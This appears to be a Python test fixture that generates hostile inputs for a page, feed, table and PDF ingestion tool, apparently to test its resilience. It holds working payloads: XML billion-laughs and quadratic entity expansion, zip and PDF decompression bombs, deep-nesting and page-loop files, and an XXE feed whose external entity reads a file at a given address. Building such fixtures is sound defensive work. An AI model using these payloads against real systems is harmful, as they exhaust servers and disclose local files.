"""Answers made to hurt whoever reads them; each is written when it is asked for."""

from __future__ import annotations

import io
import json
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

URL = "http://hostile.example/x"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Attack:
    """An answer for a source of a kind."""

    kind: str
    media_type: str
    content: Callable[[], bytes | str]


def _feed(inside: str, before: str = "") -> str:
    return f"<?xml version='1.0'?>{before}<rss version='2.0'><channel>{inside}</channel></rss>"


def _laughs(levels: int, of: str = "lol") -> str:
    lines = [f"<!ENTITY a0 '{of}'>"]
    lines += [f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, levels)]
    return f"<!DOCTYPE rss [{''.join(lines)}]>"


def _pdf(stream: bytes, filters: str, kids: str = "4 0 R", count: int = 1) -> bytes:
    """A PDF of one page with that content, its table of objects left to be rebuilt."""
    objects = [
        "1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj",
        f"2 0 obj <</Type/Pages/Kids[{kids}]/Count {count}>> endobj",
        "4 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 5 0 R>> endobj",
        f"5 0 obj <</Length {len(stream)}/Filter[{filters}]>> stream\n",
    ]
    head = "%PDF-1.4\n" + "\n".join(objects)
    return head.encode() + stream + b"\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"


def _zeros(megabytes: int, times: int = 1) -> bytes:
    packed = zlib.compress(b"0" * (megabytes * 10**6), 9)
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def _sheet_bomb() -> bytes:
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        sheet, link = "<sheet name='a' r:id='r1'/>", "Id='r1' Target='worksheets/sheet1.xml'"
        archive.writestr(
            "xl/workbook.xml", f"<workbook xmlns:r='{_OFFICE}'><sheets>{sheet}</sheets></workbook>"
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels", f"<Relationships><Relationship {link}/></Relationships>"
        )
        archive.writestr("xl/worksheets/sheet1.xml", b"<c>" * 30_000_000)
    return memory.getvalue()


def _html(inside: str) -> str:
    return f"<html><body>{inside}</body></html>"


def _json(text: str) -> str:
    """An item whose text is easily read, and takes long to match."""
    return json.dumps({"items": [{"title": "x", "url": "http://x.example/2", "text": text}]})


ATTACKS: Mapping[str, Attack] = {
    name: Attack(kind, media_type, content)
    for name, kind, media_type, content in (
        # pages
        ("attributes", "page", "text/html",
         lambda: _html(f"<p {' '.join(f'a{n}=1' for n in range(60_000))}>x</p>")),
        ("paragraphs", "page", "text/html", lambda: _html("<p>a</p>" * 200_000)),
        ("nested tags", "page", "text/html", lambda: _html("<div>" * 200_000)),
        ("brackets", "page", "text/html", lambda: _html("<" * 1_000_000)),
        ("comments", "page", "text/html", lambda: _html("<!--" * 100_000)),
        ("declarations", "page", "text/html", lambda: _html("<![" * 100_000)),
        ("cdata", "page", "text/html", lambda: _html("<![CDATA[" * 50_000)),
        ("ampersands", "page", "text/html", lambda: _html("&" * 1_000_000)),
        ("large and nowhere utf-8", "page", "text/html", lambda: b"<html>" + b"\xe4" * 15_000_000),
        # feeds
        ("laughs", "feed", "application/rss+xml",
         lambda: _feed("<title>&a9;</title>", _laughs(10))),
        ("quadratic laughs", "feed", "application/rss+xml",
         lambda: _feed(f"<title>{'&a0;' * 20_000}</title>", _laughs(1, "x" * 20_000))),
        ("deep feed", "feed", "application/rss+xml", lambda: _feed("<a>" * 100_000)),
        ("namespaces", "feed", "application/rss+xml",
         lambda: _feed("".join(f"<a xmlns:n{n}='u{n}'>" for n in range(20_000)))),
        ("empty feed", "feed", "application/rss+xml", lambda: b""),
        ("nothing but NUL", "feed", "application/rss+xml", lambda: bytes(1000)),
        ("a path for a feed", "feed", "application/rss+xml", lambda: b"/etc/hostname"),
        # data
        ("words for ever", "json", "application/json", lambda: _json("Deserteur " * 60_000)),
        ("deep json", "json", "application/json", lambda: "[" * 100_000 + "]" * 100_000),
        ("long number", "json", "application/json", lambda: '{"items": [' + "9" * 10_000 + "]}"),
        ("deep objects", "json", "application/json", lambda: '{"items":' * 50_000),
        ("wide table", "table", "text/csv", lambda: ",".join(map(str, range(400_000))) + "\n" * 9),
        ("long cell", "table", "text/csv", lambda: "a,b\n" + '"' + "x" * 5_000_000),
        ("sheet bomb", "table",
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", _sheet_bomb),
        # papers
        ("flate bomb", "document", "application/pdf", lambda: _pdf(_zeros(200), "/FlateDecode")),
        ("flate bomb within another", "document", "application/pdf",
         lambda: _pdf(_zeros(500, 2), "/FlateDecode/FlateDecode")),
        ("page loop", "document", "application/pdf", lambda: _pdf(b"x", "", "2 0 R 2 0 R", 9**9)),
        ("paper without text", "document", "application/pdf", lambda: _pdf(b"", "")),
        ("page that says it is a paper", "document", "application/pdf", lambda: _html("<p>x</p>")),
        ("half a paper", "document", "application/pdf", lambda: _pdf(b"x", "")[:100]),
    )
}  # fmt: skip


def stealing(address: str) -> str:
    """A feed whose title is to be what stands at the address."""
    item = "<item><title>&stolen;</title><link>http://hostile.example/1</link></item>"
    return _feed(item, f"<!DOCTYPE rss [<!ENTITY stolen SYSTEM '{address}'>]>")
